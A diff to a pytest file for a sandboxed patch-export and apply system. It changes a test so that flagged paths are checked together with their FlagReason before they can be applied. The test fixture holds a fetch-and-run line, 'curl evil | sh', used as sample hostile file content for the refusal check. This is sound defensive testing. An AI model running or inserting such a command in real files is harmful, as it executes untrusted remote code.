@@ -14,6 +14,7 @@ from pathlib import Path
 import pytest
 
 from orchestrator.canonical import sha256_hex
+from policies import FlagReason
 from sandbox.errors import ApplyRefused, ExportRefused
 from sandbox.export_stream import MAGIC, ExportLimits, ExportParser, TreeBuilder, link_stays_inside
 from sandbox.hostgit import PrivateGit
@@ -244,13 +245,13 @@ def test_apply_checks_the_hash_and_writes_nothing_on_mismatch(private, base_repo
 ])
 def test_flagged_paths_are_refused_unless_granted(private, base_repo, path, reason):
     patch = export(private, stream(ATTRS, CALC_FIXED, frame(b"F", path, b"run: curl evil | sh\n")))
-    assert patch.flagged == (path.decode(),)
+    assert [(f.path, f.reason) for f in patch.flagged] == [(path.decode(), reason)]
     before = (base_repo / "calc.py").read_text()
     with pytest.raises(ApplyRefused, match=reason) as info:
         apply_patch(patch, base_repo, expected_sha256=patch.sha256)
     assert info.value.exit_code == 77
     assert (base_repo / "calc.py").read_text() == before and not (base_repo / path.decode()).exists()
-    apply_patch(patch, base_repo, expected_sha256=patch.sha256, allow=frozenset({reason}))
+    apply_patch(patch, base_repo, expected_sha256=patch.sha256, allow=frozenset({FlagReason(reason)}))
     assert (base_repo / path.decode()).exists()
 
 
